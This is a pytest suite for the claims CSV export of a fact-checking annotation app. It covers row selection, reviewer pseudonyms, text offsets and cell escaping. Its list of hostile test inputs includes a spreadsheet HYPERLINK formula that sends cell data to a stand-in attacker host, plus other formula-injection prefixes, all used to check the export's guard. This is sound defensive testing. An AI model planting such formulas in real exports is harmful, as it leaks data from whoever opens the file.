"""The export of claims: which rows there are, and that their cells are exactly the record."""

from __future__ import annotations

import datetime
import json
from dataclasses import replace
from typing import Any

import pytest

from annotations.choices import Precision
from annotations.demo import load
from annotations.exports.claims_csv import Selection, claims_of, count, preview
from annotations.exports.guard import unguard
from annotations.models import Adjudication, Article, Claim, Project, Review, User
from annotations.services.claims import mark_claim, withdraw_claim
from tests.factories import (
    JUSTIFICATION,
    QUOTE,
    TEA_ROAD,
    disputed_claim,
    make_article,
    make_citation,
    make_claim,
    make_project,
    make_review,
    ready_claim,
    ready_claims,
    settle,
    settled_claim,
    standing,
    take,
)

pytestmark = pytest.mark.django_db
Row = dict[str, str]


def selection(project: Project, actor: User | None = None, **options: Any) -> Selection:
    return Selection(claims=claims_of(project), actor=actor, **options)


def rows_of(selection: Selection) -> list[Row]:
    header, *rows = preview(selection, 10_000)
    return [dict(zip(header, row, strict=True)) for row in rows]


def export(project: Project, actor: User | None = None, **options: Any) -> list[Row]:
    return rows_of(selection(project, actor, **options))


# --- which rows ---------------------------------------------------------------------------------


def test_a_settled_claim_has_its_reviews_and_then_its_final_verdict(
    project: Project, ada: User, ben: User, chi: User
) -> None:
    settled_claim(project, [ben, chi], ada)
    types = [(row["row_type"], row["slot"]) for row in export(project)]
    assert types == [("review", "1"), ("review", "2"), ("final", "")]


def test_a_claim_without_any_review_has_a_row(project: Project, root: User) -> None:
    make_claim(project)
    assert [row["row_type"] for row in export(project)] == ["claim"]


def test_claims_stand_in_order_of_article_number_and_slot(
    project: Project, ben: User, chi: User
) -> None:
    claims = ready_claims(project, 3)
    make_review(claims[2], chi)
    make_review(claims[2], ben)
    make_claim(project)
    article = str(claims[0].article_id)
    found = [(row["article_id"], row["claim_number"], row["slot"]) for row in export(project)]
    assert found[:5] == [(article, "1", ""), (article, "2", ""), (article, "3", "1"),
                         (article, "3", "2"), (article, "3", "")]  # fmt: skip
    assert int(found[5][0]) > int(article)


def test_a_withdrawn_claim_is_there_only_when_asked_for(project: Project, mia: User) -> None:
    claim = make_claim(project)
    withdraw_claim(standing=standing(mia, project), claim=claim, version=1, reason="A quote only")
    assert export(project) == []
    (row,) = export(project, withdrawn=True)
    assert (row["state"], row["withdrawn_reason"]) == ("withdrawn", "A quote only")


def test_final_verdicts_alone(project: Project, ada: User, ben: User, chi: User) -> None:
    claim = settled_claim(project, [ben, chi], ada)
    make_claim(project)
    (row,) = export(project, finals_only=True)
    assert (row["claim_id"], row["row_type"]) == (str(claim.public_id), "final")


def test_one_article_and_one_state(project: Project, ben: User, chi: User) -> None:
    disputed = disputed_claim(project, [ben, chi])
    ready = ready_claim(project)
    of_article = Selection(claims=claims_of(project, ready.article_id), actor=None)
    assert {row["claim_id"] for row in rows_of(of_article)} == {str(ready.public_id)}
    found = {row["claim_id"] for row in export(project, state="disputed")}
    assert found == {str(disputed.public_id)}


def test_nothing_of_another_project(project: Project, root: User, mia: User) -> None:
    other = make_project(root, "other")
    make_claim(other)
    assert export(project) == []
    # Not even when the claims that were asked for are not the actor's to see.
    assert rows_of(Selection(claims=claims_of(other), actor=mia)) == []
    assert len(rows_of(Selection(claims=claims_of(other), actor=root))) == 1


def test_counts_are_those_of_the_rows(project: Project, ada: User, ben: User, chi: User) -> None:
    settled_claim(project, [ben, chi], ada, speaker="Ana Lee")
    make_review(ready_claim(project), ben)
    make_claim(project)
    for options in ({}, {"finals_only": True}, {"state": "proposed"}):
        rows = export(project, **options)
        counts = count(selection(project, **options))
        assert counts.rows == len(rows)
        assert counts.claims == len({row["claim_id"] for row in rows})
        assert counts.reviews == sum(row["row_type"] == "review" for row in rows)
        assert counts.finals == sum(row["row_type"] == "final" for row in rows)
        without = {row["claim_id"] for row in rows if not row["speaker"]}
        assert counts.without_speaker == len(without)


# --- agreement with the querysets ----------------------------------------------------------------


@pytest.fixture
def work(project: Project, mia: User, ada: User, ben: User, chi: User, vic: User) -> Project:
    """Claims in every state, and one that Mia reviews herself."""
    settled_claim(project, [ben, chi], ada)
    disputed_claim(project, [ben, chi])
    make_review(ready_claim(project), ben)
    make_review(ready_claim(project), chi, submitted=False)
    ready_claim(project)
    make_claim(project)
    by_ada = ready_claim(project, ada)
    make_review(by_ada, ben)
    make_review(by_ada, mia, submitted=False)
    return project


def review_rows(rows: list[Row]) -> set[tuple[str, str, str]]:
    return {
        (row["claim_id"], row["slot"], row["content_verdict"])
        for row in rows
        if row["row_type"] == "review"
    }


def stored(reviews: Any) -> set[tuple[str, str, str]]:
    values = reviews.values_list("claim__public_id", "assignment__slot", "content_label__code")
    return {(str(claim), str(slot), code) for claim, slot, code in values}


@pytest.mark.parametrize("who", ["mia", "ada", "root", "operator"])
def test_reviews_are_those_that_the_actor_may_see(
    work: Project, who: str, request: pytest.FixtureRequest
) -> None:
    actor = None if who == "operator" else request.getfixturevalue(who)
    seen = Review.objects.visible_to(actor).submitted()
    assert review_rows(export(work, actor)) == stored(seen)


def test_the_comparison_finds_reviews_that_are_not_open_yet(work: Project, mia: User) -> None:
    assert review_rows(export(work, mia)) != stored(Review.objects.submitted())


def test_no_draft_of_ones_own(work: Project, mia: User) -> None:
    assert Review.objects.visible_to(mia).filter(submitted_at=None).exists()
    mine = str(Review.objects.get(reviewer=mia).claim.public_id)
    assert [row["row_type"] for row in export(work, mia) if row["claim_id"] == mine] == ["claim"]


def test_states_are_those_of_the_querysets(work: Project, mia: User, root: User) -> None:
    def exported(actor: User | None) -> dict[str, str]:
        return {row["claim_id"]: row["state"] for row in export(work, actor)}

    true = {str(claim.public_id): claim.state for claim in Claim.objects.with_state()}
    shown = {
        str(claim.public_id): claim.shown_state for claim in Claim.objects.with_shown_state(mia)
    }
    assert set(true.values()) >= {"settled", "disputed", "in_review", "ready", "proposed"}
    assert exported(None) == exported(root) == true
    assert exported(mia) == shown != true


def test_what_others_have_begun_changes_no_byte(
    project: Project, mia: User, ben: User, chi: User
) -> None:
    """Mia manages and may yet become a reviewer herself (P6)."""
    claim = ready_claim(project, ben)
    before = preview(selection(project, mia), 100)
    make_review(claim, chi)
    assert preview(selection(project, mia), 100) == before
    assert preview(selection(project), 100) != before


@pytest.mark.parametrize("other", ["true", "false"])
def test_a_site_admin_who_reviewed_cannot_tell_agreement_from_dispute(
    project: Project, root: User, mia: User, ben: User, other: str
) -> None:
    """Their own review can still be revised; the operator at the command line is told."""
    claim = ready_claim(project, mia)
    make_review(claim, root, "true", confidence="low")
    make_review(claim, ben, other)
    assert {row["state"] for row in export(project, root)} == {"in_review"}
    assert {row["state"] for row in export(project)} <= {"agreed", "disputed"}


def test_finals_are_the_standing_adjudications(work: Project) -> None:
    finals = {
        row["claim_id"]: row["final_content_verdict"]
        for row in export(work)
        if row["row_type"] == "final"
    }
    assert finals == {
        str(final.claim.public_id): final.content_label.code
        for final in Adjudication.objects.standing().select_related("claim", "content_label")
    }


# --- what is in the cells ------------------------------------------------------------------------


def places_hold(text: str, row: Row) -> bool:
    """P5 in one row: the cells say where in the text their words stand, in code points."""
    parts = json.loads(row["anchors"])
    quote = unguard(row["quote"])
    return (
        all(text[start:end] == words for start, end, words in parts)
        and (int(row["start"]), int(row["end"])) == (parts[0][0], parts[-1][1])
        and quote == " … ".join(words for _, _, words in parts)
        and (len(parts) > 1 or text[int(row["start"]) : int(row["end"])] == quote)
    )


def test_offsets_are_code_points_of_the_article(project: Project, root: User) -> None:
    claim = make_claim(project)
    (row,) = export(project)
    assert row["quote"] == QUOTE
    assert places_hold(claim.article.text, row)


def test_offsets_in_utf_16_units_would_be_found(project: Project, root: User) -> None:
    claim = make_claim(project, quote="It cost four million euros")
    (row,) = export(project)
    shifted = row | {"start": str(int(row["start"]) + 1), "end": str(int(row["end"]) + 1)}
    assert places_hold(claim.article.text, row)
    assert not places_hold(claim.article.text, shifted)


def test_a_claim_in_two_parts(project: Project, mia: User) -> None:
    article = make_article(project)
    mark_claim(standing=standing(mia, project), article=article, spans=[(15, 25), (28, 42)])
    (row,) = export(project)
    assert row["quote"] == "The bridge … opened in 1998"
    assert places_hold(article.text, row)


def test_the_tea_road_row(root: User) -> None:
    project = load.load()
    rows = export(project)
    text = Article.objects.get(title__startswith="President Xi").text
    (row, *_) = (row for row in rows if row["quote"].startswith(TEA_ROAD))
    assert text[int(row["start"]) : int(row["end"])] == unguard(row["quote"])
    assert row["speaker"] == "Xi Jinping"
    assert row["article_sha256"] == Article.objects.get(title__startswith="President Xi").sha256
    texts = dict(Article.objects.values_list("pk", "text"))
    assert all(places_hold(texts[int(row["article_id"])], row) for row in rows)


def test_the_cells_of_a_review(project: Project, ada: User, ben: User, chi: User) -> None:
    claim = disputed_claim(project, [ben, chi], speaker="Ana Lee")
    row = export(project)[1]
    review = Review.objects.get(claim=claim, reviewer=chi)
    assert review.submitted_at is not None
    assert {name: row[name] for name in (
        "project", "claim_id", "claim_number", "claim_text", "speaker", "worth", "worth_set_by",
        "verifiability", "origin", "state", "reviewer", "slot", "content_verdict",
        "content_verdict_name", "content_scale", "attribution_verdict", "attribution_scale",
        "confidence", "justification", "as_of", "submitted_at", "final_content_verdict",
    )} == {
        "project": "bridges", "claim_id": str(claim.public_id), "claim_number": "1",
        "claim_text": claim.text, "speaker": "Ana Lee", "worth": "0.55", "worth_set_by": "person",
        "verifiability": "", "origin": "person", "state": "disputed", "reviewer": "R2",
        "slot": "2", "content_verdict": "false", "content_verdict_name": "False",
        "content_scale": "truth-6@1", "attribution_verdict": "accurate-quote",
        "attribution_scale": "attribution-7@1", "confidence": "high",
        "justification": JUSTIFICATION, "as_of": "",
        "submitted_at": f"{review.submitted_at:%Y-%m-%dT%H:%M:%SZ}", "final_content_verdict": "",
    }  # fmt: skip


def test_the_cells_of_a_final_verdict(project: Project, ada: User, ben: User, chi: User) -> None:
    claim = disputed_claim(project, [ben, chi])
    chosen = Review.objects.get(claim=claim, reviewer=chi).citations.get()
    settle(claim, ada, "mixed", cause="reading", citations=[chosen])
    row = export(project)[2]
    assert {name: row[name] for name in (
        "reviewer", "content_verdict", "confidence", "justification", "final_content_verdict",
        "final_content_verdict_name", "final_content_scale", "final_confidence",
        "final_justification", "final_method", "cause", "adjudicator",
    )} == {
        "reviewer": "", "content_verdict": "", "confidence": "", "justification": "",
        "final_content_verdict": "mixed", "final_content_verdict_name": "Mixed",
        "final_content_scale": "truth-6@1", "final_confidence": "high",
        "final_justification": JUSTIFICATION, "final_method": "adjudicated", "cause": "reading",
        "adjudicator": "A1",
    }  # fmt: skip
    (citation,) = json.loads(row["citations"])
    assert chosen.source is not None
    assert citation["url"] == chosen.source.url


def test_sources_and_searches(project: Project, ben: User) -> None:
    claim = ready_claim(project)
    make_citation(
        take(claim, ben), stance="", url="", title="", publisher="",
        searched_for="bridge 1998", searched_in="City records",
        searched_on=datetime.date(2024, 11, 6),
    )  # fmt: skip
    make_review(claim, ben, citations=2)
    search, source = json.loads(export(project)[0]["citations"])
    assert search == {
        "aspect": "content", "searched_for": "bridge 1998", "searched_in": "City records",
        "searched_on": "2024-11-06", "note": "",
    }  # fmt: skip
    assert (source["stance"], source["title"]) == ("supports", "Opening of the bridge")
    assert source["retrieved_at"].endswith("Z")


def test_a_date_tells_how_much_of_it_is_known(project: Project, root: User) -> None:
    article = make_article(
        project, published_on=datetime.date(1998, 5, 1), published_precision=Precision.MONTH
    )
    make_claim(project, article=article)
    (row,) = export(project)
    assert row["article_published_on"] == "1998-05-01"
    assert row["article_published_precision"] == "month"


# --- people --------------------------------------------------------------------------------------


def test_people_have_pseudonyms(work: Project, ada: User, ben: User, chi: User) -> None:
    text = json.dumps(export(work)).lower()
    for person in (ada, ben, chi):
        assert f'"{person.username}"' not in text


def test_names_when_asked_for(work: Project) -> None:
    rows = export(work, names=True)
    assert {row["reviewer"] for row in rows} == {"", "Ben", "Chi"}
    assert {row["adjudicator"] for row in rows} == {"", "Ada"}


def test_a_pseudonym_is_one_person_in_every_export(work: Project) -> None:
    def people(**options: Any) -> set[tuple[str, str]]:
        hidden, named = export(work, **options), export(work, names=True, **options)
        pairs = {(a["reviewer"], b["reviewer"]) for a, b in zip(hidden, named, strict=True)}
        return pairs - {("", "")}

    assert people() == {("R1", "Ben"), ("R2", "Chi")}
    assert people(state="in_review") == {("R1", "Ben")}


# --- exactness -----------------------------------------------------------------------------------

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1)',
    "\u3000＝1+1",
    "'quoted, at the start",
    'He said: "no", twice;\r\nthen\nleft\rfast, \\N \\. 🌉\u202e',
    "\\.",
    "-1",
)


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_come_back_exactly(project: Project, ben: User, words: str) -> None:
    claim = ready_claim(project, text=f"{words}x" if words[0] == "\u3000" else words)
    Claim.objects.filter(pk=claim.pk).update(text=words)
    make_review(claim, ben, justification=words + " " * 40 + "end")
    (guarded,) = export(project)
    assert unguard(guarded["claim_text"]) == words
    assert unguard(guarded["justification"]) == words + " " * 40 + "end"
    assert guarded["claim_text"].lstrip("\u3000 ")[:1] not in "=+-@＝"
    (plain,) = export(project, raw=True)
    assert plain["claim_text"] == words


def test_formulas_in_names_and_titles(project: Project, ben: User) -> None:
    """Every text column is guarded, whoever wrote it (C8)."""
    User.objects.filter(pk=ben.pk).update(first_name="=1+1")
    article = make_article(project, title="@SUM(1)", publisher="-x", url="https://a.example/")
    claim = ready_claim(project, article=article, speaker="+1")
    make_review(claim, ben)
    (row,) = export(project, names=True)
    for name in ("article_title", "article_publisher", "speaker", "reviewer"):
        assert row[name].startswith("'"), name


def test_numbers_are_not_text(project: Project, root: User) -> None:
    claim = make_claim(project)
    Claim.objects.filter(pk=claim.pk).update(worth=1e-05)
    (row,) = export(project)
    assert float(row["worth"]) == 1e-05


def test_options_leave_the_rows_alone(work: Project) -> None:
    plain = selection(work)
    assert preview(replace(plain, bom=True), 100) == preview(plain, 100)
